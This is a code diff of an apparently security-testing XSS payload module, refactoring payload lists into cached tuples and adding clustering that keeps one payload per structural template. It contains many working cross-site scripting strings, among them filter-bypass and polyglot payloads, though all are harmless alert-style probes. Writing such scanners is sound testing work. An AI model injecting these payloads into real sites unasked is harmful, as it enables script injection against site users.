@@ -1,33 +1,46 @@
 """
 XSS Payloads Module
 """
-from typing import List
+import functools
+import re
+from typing import Tuple
+
+# For template clustering: payloads that differ only in case, spacing or
+# numeric literals exercise the same filter/encoder path on the target
+_NUM_RE = re.compile(r'\d+')
+_WS_RE = re.compile(r'\s+')
+
+
+def _canonical_template(payload: str) -> str:
+    """Structural template of a payload (casefolded, whitespace
+    collapsed, numeric literals replaced with a placeholder)"""
+    return _NUM_RE.sub('_NUM_', _WS_RE.sub(' ', payload.casefold())).strip()
 
 
 class XSSPayloads:
     """Collection of XSS payloads for testing"""
     
     # Basic payloads - simple and effective
-    BASIC = [
+    BASIC = (
         '<script>alert(1)</script>',
         '<img src=x onerror=alert(1)>',
         '<svg/onload=alert(1)>',
         '<body onload=alert(1)>',
         '<iframe src="javascript:alert(1)">',
-    ]
+    )
     
     # Attribute escape payloads
-    ATTRIBUTE_ESCAPE = [
+    ATTRIBUTE_ESCAPE = (
         '"><script>alert(1)</script>',
         '\' onmouseover=alert(1) x=\'',
         '" onmouseover="alert(1)',
         '\'><script>alert(1)</script>',
         '"><img src=x onerror=alert(1)>',
         '\'><<SCRIPT>alert(1)//<<SCRIPT>',
-    ]
+    )
     
     # Tag context payloads
-    TAG_CONTEXT = [
+    TAG_CONTEXT = (
         '<img src=x onerror=alert(1)>',
         '<svg/onload=alert(1)>',
         '<iframe src=javascript:alert(1)>',
@@ -36,18 +49,18 @@ class XSSPayloads:
         '<select onfocus=alert(1) autofocus>',
         '<textarea onfocus=alert(1) autofocus>',
         '<details open ontoggle=alert(1)>',
-    ]
+    )
     
     # JavaScript context payloads
-    JS_CONTEXT = [
+    JS_CONTEXT = (
         '\'-alert(1)-\'',
         '\";alert(1);//',
         '</script><script>alert(1)</script>',
         '"}alert(1)//{"',
-    ]
+    )
     
     # Filter bypass payloads
-    BYPASS = [
+    BYPASS = (
         '<ScRiPt>alert(1)</sCrIpT>',
         '<img src="x" onerror="alert(1)">',
         '<img src=x onerror=alert(1)>',
@@ -57,10 +70,10 @@ class XSSPayloads:
         '<<script>alert(1)//<<script>',
         '<script>alert(String.fromCharCode(49))</script>',
         '<iframe src="data:text/html,<script>alert(1)</script>">',
-    ]
+    )
     
     # Event handler payloads
-    EVENT_HANDLERS = [
+    EVENT_HANDLERS = (
         '<img src=x onerror=alert(1)>',
         '<body onload=alert(1)>',
         '<input onfocus=alert(1) autofocus>',
@@ -69,20 +82,26 @@ class XSSPayloads:
         '<details open ontoggle=alert(1)>',
         '<marquee onstart=alert(1)>',
         '<div onmouseover=alert(1)>test</div>',
-    ]
+    )
     
     # Polyglot payloads (work in multiple contexts)
-    POLYGLOT = [
+    POLYGLOT = (
         'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//',
         '\'">><marquee><img src=x onerror=confirm(1)></marquee>"></plaintext\\></|\\><plaintext/onmouseover=prompt(1)><script>prompt(1)</script>@gmail.com<isindex formaction=javascript:alert(/XSS/) type=submit>\'-->"></script><script>alert(1)</script>"><img/id="confirm&lpar;1)"/alt="/"src="/"onerror=eval(id)>\'">',
         '"><svg/onload=alert(1)>',
         '\';alert(String.fromCharCode(88,83,83))//\';alert(String.fromCharCode(88,83,83))//";alert(String.fromCharCode(88,83,83))//";alert(String.fromCharCode(88,83,83))//--></SCRIPT>">\'><SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>',
-    ]
+    )
     
     @classmethod
-    def get_all_payloads(cls) -> List[str]:
-        """Get all unique payloads"""
-        all_payloads = (
+    @functools.lru_cache(maxsize=1)
+    def get_all_payloads(cls) -> Tuple[str, ...]:
+        """Get all unique payloads
+
+        dict.fromkeys dedups in one C-level pass while preserving order;
+        the immutable result is cached and shared across scanner
+        instances and threads.
+        """
+        return tuple(dict.fromkeys(
             cls.BASIC +
             cls.ATTRIBUTE_ESCAPE +
             cls.TAG_CONTEXT +
@@ -90,23 +109,36 @@ class XSSPayloads:
             cls.BYPASS +
             cls.EVENT_HANDLERS +
             cls.POLYGLOT
-        )
-        # Remove duplicates while preserving order
-        seen = set()
-        unique_payloads = []
-        for payload in all_payloads:
-            if payload not in seen:
-                seen.add(payload)
-                unique_payloads.append(payload)
-        return unique_payloads
+        ))
     
     @classmethod
-    def get_basic_payloads(cls) -> List[str]:
+    @functools.lru_cache(maxsize=1)
+    def get_representative_payloads(cls) -> Tuple[str, ...]:
+        """Get one representative payload per structural template
+
+        The full set is highly redundant - several entries collapse to
+        the same template once case, spacing and numeric literals are
+        normalized, and each duplicate costs a full request per
+        parameter. Keeps one payload per template, preferring polyglots
+        since they cover several contexts at once.
+        """
+        polyglots = frozenset(cls.POLYGLOT)
+        groups = {}
+        for payload in cls.get_all_payloads():
+            key = _canonical_template(payload)
+            current = groups.get(key)
+            if current is None or (payload in polyglots
+                                   and current not in polyglots):
+                groups[key] = payload
+        return tuple(groups.values())
+
+    @classmethod
+    def get_basic_payloads(cls) -> Tuple[str, ...]:
         """Get only basic payloads for quick testing"""
         return cls.BASIC + cls.ATTRIBUTE_ESCAPE[:3] + cls.TAG_CONTEXT[:3]
-    
+
     @classmethod
-    def get_advanced_payloads(cls) -> List[str]:
+    def get_advanced_payloads(cls) -> Tuple[str, ...]:
         """Get advanced payloads for thorough testing"""
         return cls.get_all_payloads()
 
@@ -115,15 +147,20 @@ class PayloadGenerator:
     """Generate context-aware payloads"""
     
     @staticmethod
-    def generate_for_context(context: str) -> List[str]:
+    @functools.lru_cache(maxsize=8)
+    def generate_for_context(context: str) -> Tuple[str, ...]:
         """
         Generate payloads based on detected context
-        
+
+        Cached per context value: the handful of distinct contexts map to
+        fixed tuples, so repeated probes share one object instead of
+        concatenating anew.
+
         Args:
             context: One of 'tag', 'attribute', 'script', 'unknown'
-        
+
         Returns:
-            List of context-appropriate payloads
+            Tuple of context-appropriate payloads
         """
         if context == 'tag':
             return XSSPayloads.TAG_CONTEXT + XSSPayloads.BASIC